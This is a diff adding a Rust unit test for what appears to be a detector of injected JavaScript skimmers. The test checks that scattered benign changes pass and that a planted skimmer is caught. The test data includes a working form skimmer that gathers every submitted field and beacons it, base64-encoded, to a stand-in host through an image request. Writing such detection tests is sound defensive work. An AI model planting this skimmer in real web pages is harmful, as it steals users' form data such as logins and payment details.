@@ -810,6 +810,53 @@ mod tests {
         assert!(pieces.iter().all(|(_, f)| f.tokens <= LOCAL_MAX_TOKENS));
     }
 
+    /// With a baseline, added code is scored place by place: changes spread over a library
+    /// (a decoder in one function, a value read in another, a request in a third) do not
+    /// add up to a skimmer, while a skimmer added in one place is caught and named.
+    #[test]
+    fn added_code_is_scored_place_by_place() {
+        let mut old = String::from("var lib = (function () {\n");
+        for i in 0..12 {
+            old.push_str(&format!(
+                "  function f{i}(a) {{ var out = []; for (var j = 0; j < a.length; j++) {{ out.push(a[j] + {i}); }} return out; }}\n"
+            ));
+        }
+        let names: Vec<String> = (0..12).map(|i| format!("f{i}: f{i}")).collect();
+        old.push_str(&format!("  return {{ {} }};\n}})();\n", names.join(", ")));
+        let spread = old
+            .replace(
+                "function f2(a) {",
+                "function f2(a) { var t = String.fromCharCode(a[0]);",
+            )
+            .replace(
+                "function f6(a) {",
+                "function f6(a) { var v = document.getElementById('q').value; a.push(encodeURIComponent(v));",
+            )
+            .replace(
+                "function f10(a) {",
+                "function f10(a) { var x = new XMLHttpRequest(); x.open('GET', '/api/items'); x.send();",
+            );
+        let ctx = Context {
+            site: Some("www.shop.example"),
+        };
+        let (base, changed) = (analyse(&old), analyse(&spread));
+        let places = added_features(&changed, &base, ctx);
+        assert!(!places.is_empty());
+        assert!(places.iter().all(|(_, f)| f.flow.is_none()), "{places:#?}");
+        let v = classify("new.js", &changed, Some(&base), ctx);
+        assert!(!v.malicious, "{v:#?}");
+        let skimmer = "document.addEventListener('submit', function (e) {\n  var f = e.target, d = {};\n  for (var i = 0; i < f.elements.length; i++) d[f.elements[i].name] = f.elements[i].value;\n  new Image().src = 'https://pixel-stats.invalid/p.gif?d=' + encodeURIComponent(btoa(JSON.stringify(d)));\n});\n";
+        let injected = old.replace("  return { f0", &format!("{skimmer}  return {{ f0"));
+        let v = classify("new.js", &analyse(&injected), Some(&base), ctx);
+        assert!(v.malicious, "{v:#?}");
+        assert!(v.reasons[0].starts_with("the riskiest code starts at line"));
+        assert!(
+            v.reasons[1].starts_with("matches an image request"),
+            "{:?}",
+            v.reasons
+        );
+    }
+
     #[test]
     fn with_a_baseline_only_added_code_counts() {
         let old = "function send(d){ var x = new XMLHttpRequest(); x.open('POST', 'https://api.shop.example/cart'); x.send(d); }";
